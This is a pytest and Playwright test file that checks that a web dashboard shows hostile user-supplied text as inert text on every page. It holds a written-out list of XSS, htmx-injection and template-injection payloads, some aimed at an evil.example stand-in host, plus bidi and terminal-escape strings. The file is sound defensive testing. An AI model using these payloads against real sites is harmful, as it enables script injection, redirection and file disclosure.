"""Hostile texts in every field that strangers can write: on every page they are only text."""

import re
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from playwright.sync_api import Browser, Page, Request, expect

from bartleby import Client, Failure, dev
from bartleby.surfaces.web.pages.showing import visible
from tests.kit.api import stock
from tests.kit.browser import Look, Site, is_live, running
from tests.kit.database import database_dsn

MARKUP = (
    "<script>hit('script')</script>", "</textarea></title></pre></table><script>hit('closed')</script>",
    "--><script>hit('comment')</script><!--", "<img src=x onerror=hit('image')>", "<svg onload=hit('svg')>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button>Replay</button></form>", "<input autofocus onfocus=hit('focus')>",
    "<img name=getElementById><form id=notices>", '"><script>hit("quote")</script>',
    "' autofocus onfocus='hit(2)' x='", '" hx-get="/hostile" hx-trigger="load" data-copy="hostile" x="',
    "javascript:hit('link')", "[click](javascript:hit('markdown'))", "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<div hx-get=/hostile hx-trigger=load hx-on:click=hit(3) hx-vals='js:{x: hit(4)}'></div>",
    "<div hx-swap-oob=true id=main>hostile</div>", "&lt;script&gt;hit('entity')&lt;/script&gt;",
)  # fmt: skip
UNPRINTABLE = ("\u202egnp.exe", "admin\u200b\u2060\ufeff", "tags \U000e0068", "\x1b[2J\x1b]0;owned\x07", "back\x08")
TEXTS = (*MARKUP, *UNPRINTABLE)
PLACES = (
    "/", "/groups", "/groups?sort=last&everything=true", "/letters", "/letters?sort=oldest", "/operations", "/queues",
    "/queues/mail", "/workers", "/sinks", "/audit", "/tokens", "/letters/{whole}",
)  # fmt: skip
Hostile = tuple[Site, dict[str, Any]]
# Everything that runs is recorded, and also what the policy has stopped.
WATCH = """
window.hits = [];
window.hit = (what) => { window.hits.push(String(what)); };
document.addEventListener("securitypolicyviolation", (event) => {
  window.hit(`policy ${event.violatedDirective} ${event.blockedURI}`);
});
"""
# Elements and attributes of a document that its templates have not put there.
STRANGE = """() => {
  const tags = `a aside body br button caption code datalist dd del details dialog div dl dt fieldset footer form h1 h2
h3 header html input ins kbd label legend li line link main meta nav ol option p path pre rect script section select
small span strong summary svg table tbody td template textarea th thead time title tr ul img`.split(/\\s+/);
  const found = [];
  for (const each of document.querySelectorAll("body *, head *")) {
    if (each.closest("[data-series]")) continue;  // drawn by the chart
    const tag = each.localName;
    if (!tags.includes(tag)) found.push(`<${tag}>`);
    for (const { name, value } of each.attributes) {
      if (/^on|^style$|^srcdoc$|^hx-on/.test(name)) found.push(`${tag} ${name}=${value}`);
      if (/^(id|name|class|is|hx-.*)$/.test(name) && /hostile/.test(value)) found.push(`${tag} ${name}=${value}`);
      const address = ["href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post"].includes(name);
      const ours = /^(\\/(?!\\/)|#|\\?)/.test(value) || (name === "href" && tag === "a" && /^https?:/.test(value));
      if (address && !ours) found.push(`${tag} ${name}=${value}`);
    }
    if (tag === "script" && !each.getAttribute("src")?.includes("/static/")) found.push("<script> of the page");
  }
  return [...found, ...window.hits];
}"""
INVISIBLE = re.compile("[\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff\x1b\x07\x08\U000e0068]")


@pytest.fixture(scope="module")
def hostile_site(server: dev.Server, admin: psycopg.Connection[Any], template: str) -> Iterator[Hostile]:
    admin.execute(f"create database hostile_site template {template}".encode())
    with running(database_dsn(server, "hostile_site"), environment="production") as site:
        places = [stock(site.client, f"queue-{number}", text) for number, text in enumerate(MARKUP)]
        yield site, {"whole": whole(site.client), "places": places}
    admin.execute(b"drop database hostile_site with (force)")


def whole(client: Client) -> int:
    """Create a letter that has all the texts in one document, and in its trace."""
    client.create_queue("mail")
    named = {text: text for text in TEXTS}
    (sent,) = client.send_many("mail", [{"payload": {"list": list(TEXTS), **named}, "headers": named}])
    trace = "\n".join(f'  File "/srv/{n}.py", line {n}, in {text}\n    {text}' for n, text in enumerate(TEXTS))
    lease = client.claim("mail", "web-1")
    assert lease
    error = Failure(lease.messages[0].position, TEXTS[-1], "\n".join(TEXTS), traceback=trace, verdict="dead")
    client.fail(lease.id, [error])
    return int(sent)


@pytest.fixture
def page(hostile_site: Hostile, browser: Browser) -> Iterator[Page]:
    """A page that records what ran; it must not request anything of others."""
    site, _ = hostile_site
    look, astray = Look(browser), list[str]()
    context = look.context()
    context.add_init_script(WATCH)
    made = context.new_page()

    def watch(request: Request) -> None:
        if not request.url.startswith(site.url) or "hostile" in request.url.partition("?")[0]:
            astray.append(request.url)

    made.on("request", watch)
    made.on("dialog", lambda dialog: astray.append(f"a dialog: {dialog.message}"))
    yield made
    look.close()
    assert not astray


@pytest.mark.timeout(600)
def test_hostile_texts_are_only_text_on_every_page(hostile_site: Hostile, page: Page) -> None:
    site, ids = hostile_site
    single = ("/groups/{group_id}", "/letters/{message_id}", "/operations/{replay_id}", "/queues/{queue}")
    every = [place.format(**ids) for place in PLACES]
    every += [place.format(**things) for things in ids["places"] for place in single]
    for place in every:
        page.goto(site.url + place)
        is_live(page)
        page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
        page.mouse.move(640, 450)
        assert page.evaluate(STRANGE) == [], place
        assert not INVISIBLE.search(page.locator("body").text_content() or ""), place
        assert page.evaluate("document.getElementById('main').localName") == "main", place


def test_completions_are_only_text(hostile_site: Hostile, page: Page) -> None:
    site, _ = hostile_site
    page.goto(f"{site.url}/letters?filter=queue:mail")
    box = page.get_by_role("combobox", name="Filter")
    box.focus()
    for typed in ("type:", "version:", "payload."):
        box.fill(typed)
        if typed == "type:":
            expect(page.locator("#filter-choices [role=option]").first).to_be_visible()
        assert page.evaluate(STRANGE) == [], typed


def test_letter_with_all_hostile_texts_shows_each_and_edits_one_field(hostile_site: Hostile, page: Page) -> None:
    site, ids = hostile_site
    page.goto(f"{site.url}/letters/{ids['whole']}")
    shown = page.locator(".trace").first.text_content() or ""
    assert [each for each in TEXTS if str(visible(each)) not in shown] == []
    page.get_by_text("Edit and replay").click()
    box = page.locator('textarea[name="payload"]')
    box.fill(box.input_value().replace('"list": [', '"added": 1,\n  "list": ['))
    form = page.locator("form", has=box)
    form.locator('input[name="reason"]').fill("only one field")
    form.get_by_role("button", name="Show what changes").click()
    expect(page.locator("#changes")).to_be_visible()
    assert site.client.replays(limit=1)[0].patch == [{"op": "add", "path": "/added", "value": 1}]
    assert page.evaluate("window.hits") == []
